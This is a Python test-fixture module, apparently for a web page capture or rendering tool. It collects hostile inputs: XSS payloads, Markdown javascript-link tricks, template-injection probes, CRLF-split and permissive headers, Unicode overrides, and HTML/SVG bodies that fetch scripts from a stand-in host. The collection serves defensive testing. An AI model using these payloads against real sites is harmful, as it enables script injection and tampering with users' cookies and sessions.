"""Contents of a hostile page or file: HTML, Markdown, addresses, headers and bodies that try to act."""

DOMAIN = "evil.example"
# A key that is an attack itself: it appears in addresses, headings and feeds.
DOMAIN_OF_TAGS = "<img src=x onerror=PWN>\"'&.example"
ELSEWHERE = "http://elsewhere.invalid"  # a request to this shows that an attack worked
PWN = f"window.pwned=1;document.title='pwned';alert(1);fetch('{ELSEWHERE}/fetched')"
LONG_WORD = "Donaudampfschifffahrt" * 60
OVERRIDE = "\u202egnp.yraunaJ\u202c \u2067\u2066 \u200f"  # reads backwards, and is never closed

TRICKS = [
    f"<script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"--><script>{PWN}</script><!--",
    f"]]></content><script xmlns='http://www.w3.org/1999/xhtml'>{PWN}</script>",
    f'</title></textarea></style></noscript></template><img src=x onerror="{PWN}">',
    f"<img src='{ELSEWHERE}/pixel.png' srcset='{ELSEWHERE}/2x.png 2x' onerror=\"{PWN}\">",
    f'"><svg onload="{PWN}"><animate onbegin="{PWN}" attributeName=x dur=1s></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
    f"<style>@import '{ELSEWHERE}/s.css';"
    f" body {{ display: none; background: url({ELSEWHERE}/b.png) }}</style>",
    f"<link rel=stylesheet href='{ELSEWHERE}/s.css'>"
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/refreshed'>",
    f"<base href='{ELSEWHERE}/'>"
    f"<iframe src='{ELSEWHERE}/frame' srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<form action='{ELSEWHERE}/form'><input autofocus onfocus=\"{PWN}\"><button>Accept</button></form>",
    f"<a href=\"javascript:{PWN}\">a link</a> <a href='data:text/html,<script>{PWN}</script>'>another</a>",
    f'<details open ontoggle="{PWN}"><video autoplay src=\'{ELSEWHERE}/v.mp4\' onerror="{PWN}"></video>',
    f"<object data='{ELSEWHERE}/o'></object><embed src='{ELSEWHERE}/e'>",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'"
    " class='hidden' id='main'>covers everything</div>",
    "<table><tr><td><ul><li><b><i><u><blockquote><h1>never closed",
    "{{ 7*7 }} {% for x in ().__class__.__bases__ %} ${7*7} #{7*7}",
    OVERRIDE,
    LONG_WORD,
    "\x00\x01\x1b[31m\ufffe\U000e0001",
]
TITLE = " ".join(trick.replace("\n", " ") for trick in TRICKS[:5]) + OVERRIDE
MARKDOWN_TRICKS = [
    f"[a link](javascript:{PWN})",
    f"[a link](JaVaScRiPt&colon;{PWN})",
    f"[a link](<java\tscript:{PWN}>)",
    "[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'[a link](vbscript:x "title" onmouseover="{PWN}")',
    f'[a link](//elsewhere.invalid/a"onmouseover="{PWN})',
    f"[a link][ref]\n\n[ref]: javascript:{PWN}",
    f"<javascript:{PWN}>",
    f'![picture]({ELSEWHERE}/markdown.png "title")',
    f"![picture](javascript:{PWN})",
    f"```\n</code></pre><script>{PWN}</script>\n```",
    f"`</code><script>{PWN}</script>`",
    f"    </pre><script>{PWN}</script>",
    f"| a | b |\n|---|---|\n| <script>{PWN}</script> | {LONG_WORD} |",
    "> " * 200 + "deep",
    "* " * 200 + "deep",
    "[" * 2000 + "](" * 500,
    "# " + LONG_WORD,
    f"## </h2><script>{PWN}</script>\n\n## </h2><script>{PWN}</script>",
]
HEADERS = [
    ["Content-Security-Policy", "script-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin"],
    ["Set-Cookie", "theirs=1; Path=/"],
    ["Refresh", f"0; url={ELSEWHERE}/header-refresh"],
    ["Link", f"<{ELSEWHERE}/preload.css>; rel=preload; as=style"],
    ["Access-Control-Allow-Origin", "*"],
    ["Clear-Site-Data", '"*"'],
    ["X-Split: a\r\nSet-Cookie", "split=1\r\nSet-Cookie: split=2"],
]
BODY = f"""<!DOCTYPE html><html><head><title>captured</title>
<meta http-equiv=refresh content="0;url={ELSEWHERE}/refreshed"><base href="{ELSEWHERE}/">
<link rel=stylesheet href="{ELSEWHERE}/s.css"><script src="{ELSEWHERE}/s.js"></script>
<script>{PWN};document.cookie='theirs=1';localStorage.theirs=1</script></head>
<body onload="{PWN}"><h1>Captured page</h1><img src=x onerror="{PWN}"><img src="{ELSEWHERE}/pixel.png">
<iframe src="{ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe>
<svg onload="{PWN}"></svg><a id=script href="javascript:{PWN}">run</a>
<form id=form action="/-/logout" method=post><button id=send>send</button></form></body></html>""".encode()
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN.replace("&", "&amp;")}">'
    f"<script>{PWN}</script></svg>"
).encode()
XHTML = (
    '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>captured</title>'
    f"<script>{PWN}</script></head><body/></html>"
).encode()
# What is captured at which address: bodies of every kind that a browser might run.
PAGE = f"http://{DOMAIN}/privacy"
BODIES = {
    PAGE: (BODY, "text/html"),
    f"http://{DOMAIN}/picture.svg": (SVG, "image/svg+xml"),
    f"http://{DOMAIN}/page.xhtml": (XHTML, "application/xhtml+xml"),
    f"http://{DOMAIN}/no-type": (BODY, None),
}
ADDRESSES = [
    f"javascript:{PWN}//",
    f"data:text/html,<script>{PWN}</script>",
    f"http://{DOMAIN}/\"><script>{PWN}</script>?a=<b>&c='d'#{LONG_WORD}",
]
